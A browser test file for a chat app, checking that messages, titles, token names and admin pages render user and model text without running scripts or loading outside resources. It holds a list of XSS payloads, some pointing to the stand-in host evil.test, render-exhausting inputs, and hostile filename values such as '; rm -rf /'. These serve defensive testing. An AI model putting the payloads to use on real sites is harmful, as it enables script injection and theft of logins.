"""Text of users and models is shown as text in a real browser: no script runs and no external resource is loaded."""

import time
import uuid
from collections.abc import Iterator
from dataclasses import replace

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect

from chat.tests.browser.conftest import chromium
from config.tests.attack.clients import Person, new_person
from config.tests.attack.marks import connection_group
from config.tests.attack.product import Product
from config.tests.attack.staff import changelist_paths

__all__ = ["chromium"]

pytestmark = [*connection_group, pytest.mark.browser]

EVIL = "https://evil.test"
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/a.png>",
    f"![a]({EVIL}/b.png)",
    f"![a](<{EVIL}/c.png> 'x')",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    f"<iframe src='{EVIL}'></iframe>",
    f"<object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<style>@import '{EVIL}/y.css'; body {{ display: none }}</style>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action='{EVIL}'><input name=password><button>Go</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    f"<video poster={EVIL}/v.png></video><audio src={EVIL}/a.mp3></audio>",
    "<div style='position:fixed;inset:0;background:url(https://evil.test/z)'>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<p id=transcript>x</p><p name=composer id=composer>y</p>",
    "<img name=getElementById><img name=cookie>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '<https://evil.test/" onmouseover=alert(1)>',
    '[a](https://evil.test "x" onmouseover=alert(1))',
    '[a](https://evil.test/"onmouseover="alert(1))',
    '```"onmouseover=alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | <b onclick=alert(1)>b</b> |\n|---|---|\n| a | b |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>".replace("\x00", ""),
    "</textarea></title></script><script>alert(1)</script>",
    "]]><!--<script>--><script>alert(1)</script>",
    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
    "{{ 7*7 }} {% debug %} ${7*7}",
]
DEEP = {
    "quotes": "> " * 4_000 + "x",
    "lists": "\n".join(f"{'  ' * n}- x" for n in range(400)),
    "brackets": "[" * 20_000,
    "links": "[a](" * 8_000,
    "images": "![" * 10_000,
    "stars": "*a " * 10_000,
    "underscores": "_" * 20_000 + "a",
    "backticks": "`" + "``" * 5_000 + " `" * 5_000,
    "references": "\n".join(f"[a{n}]: /x" for n in range(2_000)) + "[a1]" * 2_000,
    "entities": "&amp;" * 10_000,
    "tags": "<b>" * 5_000,
    "open tags": "<a " * 8_000,
    "comments": "<!--" * 8_000,
    "a wide table": "|" + "a|" * 1_500 + "\n|" + "-|" * 1_500 + "\n|" + "b|" * 1_500,
    "a long table": "|a|b|\n|-|-|\n" + "|c|d|\n" * 4_000,
    "a long line": "a" * 100_000,
    "autolinks": "https://a.test/" * 4_000,
    "addresses": "a@" * 10_000 + "b.test",
    "tildes": "~~a" * 8_000,
}
# Copy the first turn of a conversation, with another reply.
REPLY = """
WITH given AS (SELECT %s::text AS reply, %s::int AS n, gen_random_uuid() AS turn, gen_random_uuid() AS prompt),
first AS (SELECT t.* FROM chat_turn t WHERE t.conversation_id = %s ORDER BY seq LIMIT 1),
turn AS (
    INSERT INTO chat_turn SELECT (jsonb_populate_record(NULL::chat_turn, to_jsonb(first) || jsonb_build_object(
        'id', turn, 'prompt_id', prompt, 'client_id', gen_random_uuid(), 'seq', 100 + n))).* FROM first, given
)
INSERT INTO chat_message SELECT (jsonb_populate_record(NULL::chat_message, to_jsonb(m) || jsonb_build_object(
    'id', CASE role WHEN 'user' THEN prompt ELSE gen_random_uuid() END, 'turn_id', turn, 'client_id', NULL,
    'position', 100 + 2 * n + (role = 'assistant')::int, 'text', CASE role WHEN 'user' THEN 'Hello' ELSE reply END
))).* FROM given, chat_message m, first WHERE m.turn_id = first.id
"""
DANGEROUS = """() => [...document.querySelectorAll("main *, body *")].filter((element) =>
    [...element.attributes].some((attribute) =>
        attribute.name.startsWith("on") ||
        (["href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"].includes(attribute.name) &&
            /^\\s*(javascript|data:text|vbscript)/i.test(attribute.value)))
    || ["IFRAME", "OBJECT", "EMBED", "BASE", "META", "LINK", "STYLE", "VIDEO", "AUDIO"].includes(element.tagName)
    || (element.tagName === "SCRIPT" && !element.src && element.type !== "application/json")
).map((element) => element.outerHTML.slice(0, 200))"""


@pytest.fixture
def context(chromium: Browser) -> Iterator[BrowserContext]:
    context = chromium.new_context()
    yield context
    context.close()


@pytest.fixture
def writer(bare_product: Product) -> Person:
    return new_person(bare_product, "writer")


def open_page(context: BrowserContext, person: Person, path: str, problems: list[str]) -> Page:
    """Open a page as a signed-in user, and record scripts that run and resources that are loaded from elsewhere."""
    cookies = [{"name": n, "value": v, "url": person.product.url} for n, v in person.browser.cookies.items()]
    context.add_cookies(cookies)  # type: ignore[arg-type]
    page = context.new_page()

    def dismiss(dialog: Dialog) -> None:
        problems.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("request", lambda request: problems.append(request.url) if "evil.test" in request.url else None)
    page.on("console", lambda line: problems.append(line.text) if line.type == "error" else None)
    page.goto(f"{person.product.url}{path}")
    return page


def write_everywhere(person: Person, markup: str) -> str:
    """Store a text as message, reply, title of a thread and a task, and name of a token; return the thread's id."""
    with person.program() as program:
        thread = program.post("/api/chatkit/threads", json={"title": markup[:100]}).json()["thread_id"]
        program.post(
            f"/api/chatkit/threads/{thread}/messages", json={"text": f"Add a task: {markup[:80]}"}
        ).raise_for_status()
        program.post("/api/tasks", json={"title": markup[:100], "description": markup[:1000]})
    person.browser.request_api("POST", "/api/auth/tokens", json={"name": markup[:100], "scopes": ["chat"]})
    person.product.database.query(
        "UPDATE chat_message SET text = %s WHERE conversation_id = %s AND role = 'assistant'", markup, thread
    )
    return str(thread)


def test_messages_and_titles_run_no_script(context: BrowserContext, writer: Person) -> None:
    problems: list[str] = []
    query = writer.product.database.query
    thread = write_everywhere(writer, "\n\n".join(MARKUP))
    for markup in MARKUP:
        with writer.program() as program:
            program.post("/api/tasks", json={"title": " ".join(markup.split())[:100], "description": markup})
            created = program.post("/api/chatkit/threads", json={"title": " ".join(markup.split())[:100]}).json()
    for path in (f"/c/{thread}/", "/", "/settings/tokens/", "/trash/", "/archive/"):
        page = open_page(context, writer, path, problems)
        page.wait_for_load_state("networkidle")
        assert page.evaluate(DANGEROUS) == [], path
        page.close()
    # Each one alone as well, since together one may close an element that another opens.
    for n, markup in enumerate(MARKUP, 1):
        query(REPLY, markup, n, thread)
    page = open_page(context, writer, f"/c/{thread}/", problems)
    expect(page.locator('[data-testid="message"][data-role="assistant"]')).to_have_count(
        len(MARKUP) + 1, timeout=15_000
    )
    page.wait_for_load_state("networkidle")
    assert page.evaluate(DANGEROUS) == []
    page.close()
    assert created
    assert problems == []


def test_names_chosen_by_users_run_no_script_in_admin(context: BrowserContext, bare_product: Product) -> None:
    """E-mail addresses may have any character between quotation marks; titles and token names may be any text."""
    problems: list[str] = []
    staff = new_person(bare_product, "staff", staff=True)
    victim = new_person(bare_product)
    write_everywhere(victim, "<img src=x onerror=alert(1)>")
    evil = f'"<img/src=x/onerror=alert(1)>{uuid.uuid4().hex[:6]}"@example.com'
    bare_product.database.query("UPDATE chat_user SET email = %s WHERE id = %s", evil, victim.id)
    user = f"/admin/chat/user/{victim.id}"
    for path in [*changelist_paths(staff), "/admin/", f"{user}/change/", f"{user}/do/erase/", f"{user}/do/deactivate/"]:
        page = open_page(context, staff, path, problems)
        page.wait_for_load_state("networkidle")
        assert page.evaluate(DANGEROUS) == [], path
        page.close()
    page = open_page(context, replace(victim, email=evil), "/settings/", problems)
    assert page.evaluate(DANGEROUS) == []
    assert problems == []


def test_streamed_messages_run_no_script(context: BrowserContext, writer: Person) -> None:
    problems: list[str] = []
    page = open_page(context, writer, "/", problems)
    expect(page.get_by_test_id("connection")).to_have_attribute("data-state", "online", timeout=20_000)
    for markup in MARKUP[:8]:
        title = " ".join(markup.split())[:90]
        page.get_by_test_id("composer").fill(f'Add a task called "{title}"')
        page.get_by_test_id("composer").press("Enter")
        page.wait_for_timeout(300)
    page.get_by_test_id("composer").fill("What do I have to do?")
    page.get_by_test_id("composer").press("Enter")
    expect(page.get_by_test_id("stop")).to_be_hidden(timeout=30_000)
    assert page.evaluate(DANGEROUS) == []
    assert problems == []


def test_deep_or_long_text_does_not_block_the_page(context: BrowserContext, writer: Person) -> None:
    problems: list[str] = []
    thread = write_everywhere(writer, "x")
    slow = {}
    for name, text in DEEP.items():
        writer.product.database.query(
            "UPDATE chat_message SET text = %s WHERE conversation_id = %s AND role = 'assistant'", text, thread
        )
        started = time.monotonic()
        page = open_page(context, writer, f"/c/{thread}/", problems)
        expect(page.get_by_test_id("connection")).to_have_attribute("data-state", "online", timeout=30_000)
        seconds = time.monotonic() - started
        if seconds > 8:
            slow[name] = seconds
        page.close()
    assert slow == {}
    assert problems == []


def test_thread_title_cannot_choose_export_file_name(writer: Person) -> None:
    names = ['x"\r\nSet-Cookie: a=b', "../../etc/passwd", "a\u202egpj.exe", "x" * 100, "; rm -rf /", 'é"é']
    with writer.program() as program:
        for name in names:
            title = " ".join(name.split())
            thread = program.post("/api/chatkit/threads", json={"title": title}).json()["thread_id"]
            for kind in ("json", "markdown"):
                response = program.get(f"/api/chatkit/threads/{thread}/export?format={kind}")
                assert response.status_code == 200
                disposition = response.headers["content-disposition"]
                assert disposition.startswith("attachment")
                assert ".." not in disposition and "/" not in disposition.replace("filename*=utf-8''", "")
                assert "set-cookie" not in response.headers
                assert response.headers["x-content-type-options"] == "nosniff"
